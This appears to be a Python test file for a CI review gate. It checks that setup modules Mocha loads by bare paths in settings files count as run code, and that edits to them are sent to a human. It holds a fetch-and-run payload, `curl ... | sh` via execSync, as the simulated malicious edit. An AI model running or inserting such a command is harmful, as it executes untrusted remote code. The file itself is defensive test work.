"""Attack 44: a module Mocha's `require` names by a bare path (`test/setup.js`, `test/setup`, no `./`).

Mocha loads each `require` value as a file from the folder it runs in when that file exists (`fs.existsSync(mod) ||
fs.existsSync(mod + '.js')`, then `path.resolve(mod)`: lib/cli/run-helpers.js' handleRequires), before it loads any
test, so `require: test/setup.js` in `.mocharc.yml` runs test/setup.js as surely as `./test/setup.js` does. The walk
read only `./`, `../` and `<rootDir>/` strings as local code, so a setup module named bare stayed `src` and an edit to
it was an exit-0 allow where a workflow runs `npx mocha` (`gate --tree` on main 55d0fa69). Mocha is not installed
here: each form is what its source above loads. A package's name (`ts-node/register`) names no file of the
repository and stays a package; Babel's and Jest's bare names are packages to their resolvers and stay so.
"""

from __future__ import annotations

import json
from pathlib import Path

from citools import BLOCK_DEFINITIONS, one_tree_runs
from gitrepo import two_commits
from incli import tree_gate
from tables import each_case

SETUP = "global.expect = require('chai').expect;\n"
EVIL = "require('child_process').execSync('curl https://127.0.0.1:9/i | sh');\n"
# (settings file, its text) naming {p}: a bare path Mocha loads
SETTINGS = [
    (".mocharc.yml", "require:\n  - {p}\nspec: test/**/*.spec.js\n"),
    (".mocharc.yml", "require: {p}\n"),
    (".mocharc.yaml", "require:\n  - ts-node/register\n  - '{p}'\n"),
    (".mocharc.json", '{{"require": ["{p}"], "spec": "test"}}'),
    (".mocharc.json", '{{"require": "{p}"}}'),
    (".mocharc.jsonc", '{{\n  // setup\n  "require": ["{p}"]\n}}'),
    (".mocharc.js", "module.exports = {{ require: ['{p}'], spec: 'test' }};\n"),
    (".mocharc.cjs", "module.exports = {{\n  require: [\n    '{p}',\n  ],\n}};\n"),
    ("package.json", '{{"name": "x", "mocha": {{"require": ["{p}"]}}}}'),
    ("package.json", '{{"name": "x", "mocha": {{"require": "{p}"}}}}'),
]
PATHS = [("test/setup.js", "test/setup.js"), ("test/setup", "test/setup.js"), ("test/hooks/root.mjs",
                                                                                 "test/hooks/root.mjs"),
         ("setup.cjs", "setup.cjs"), ("test/helpers", "test/helpers/index.js")]
LINES = ["npx mocha", "mocha --recursive", "npm test"]


def _text(text: str, spec: str) -> str:
    return text.replace("{p}", spec).replace("{{", "{").replace("}}", "}")


# every settings form with the first path, every path in the first form, the forms run by other lines
# (a package.json's `mocha` key is read where npm reads the package.json: `npx mocha` alone does not read it, with
# `./` or without: left, see docs/classification.md's attack 44)
CASES = [(name, _text(text, PATHS[0][0]), PATHS[0][1], LINES[2 if name == "package.json" else 0])
         for name, text in SETTINGS] + \
    [(SETTINGS[0][0], _text(SETTINGS[0][1], spec), target, LINES[0]) for spec, target in PATHS[1:]] + \
    [(name, _text(text, "test/setup"), "test/setup.js", line) for name, text in SETTINGS[::3] for line in LINES[1:]
     if name != "package.json" or line == "npm test"]


def _tree(name: str, text: str, target: str, line: str, definition: str, template: str) -> dict[str, str]:
    scripts = {"test": "mocha"} if line == "npm test" else {}
    package = json.dumps({"name": "x", "scripts": scripts})
    if name == "package.json":
        package = json.dumps({**json.loads(text), "scripts": scripts})
    tree = {definition: template.format(line=line), "package.json": package, target: SETUP,
            "test/a.spec.js": "it('a', () => {});\n"}
    return tree if name == "package.json" else {**tree, name: text}


@each_case(("name", "text", "target", "line"), CASES)
def test_a_bare_required_module_is_run(name: str, text: str, target: str, line: str) -> None:
    for definition, template in BLOCK_DEFINITIONS[:2]:
        runs = one_tree_runs(_tree(name, text, target, line, definition, template))
        assert isinstance(runs, dict) and target in runs, (definition, sorted(runs) if isinstance(runs, dict) else runs)


# a package Mocha requires, Babel's and Jest's bare names (packages to their resolvers), a spec: no file of ours runs
LOOK_ALIKES = [
    (".mocharc.yml", "require:\n  - ts-node/register\nspec: test/setup.js\n", "test/setup.js"),
    (".babelrc", '{"plugins": ["test/setup.js"]}', "test/setup.js"),
    ("jest.config.json", '{"setupFiles": ["test/setup.js"]}', "test/setup.js"),
    (".mocharc.yml", "require:\n  - chai/register-expect\nignore: test/setup.js\n", "test/setup.js"),
]


@each_case(("name", "text", "target"), LOOK_ALIKES)
def test_a_package_or_a_spec_is_not_run(name: str, text: str, target: str) -> None:
    definition, template = BLOCK_DEFINITIONS[0]
    runs = one_tree_runs({definition: template.format(line="npx mocha && npx jest && npx babel src"),
                          "package.json": '{"name": "x"}', name: text, target: SETUP})
    assert isinstance(runs, dict) and target not in runs, sorted(runs) if isinstance(runs, dict) else runs


@each_case(("name", "text"), [(".mocharc.yml", "require:\n  - test/setup.js\n"),
                              ("package.json", '{"name": "x", "mocha": {"require": "test/setup"}}')])
def test_the_edited_setup_needs_a_human(tmp_path: Path, name: str, text: str) -> None:
    base = {".github/workflows/ci.yml": BLOCK_DEFINITIONS[0][1].format(line="npm test"),
            "package.json": '{"name": "x", "scripts": {"test": "mocha"}}', "test/setup.js": SETUP}
    base[name] = text.replace('"name": "x"', '"name": "x", "scripts": {"test": "mocha"}')
    _, first, second = two_commits(tmp_path, base, {"test/setup.js": SETUP + EVIL})
    code, decision = tree_gate(tmp_path, first, second, None)
    assert code == 3, decision["reasons"]
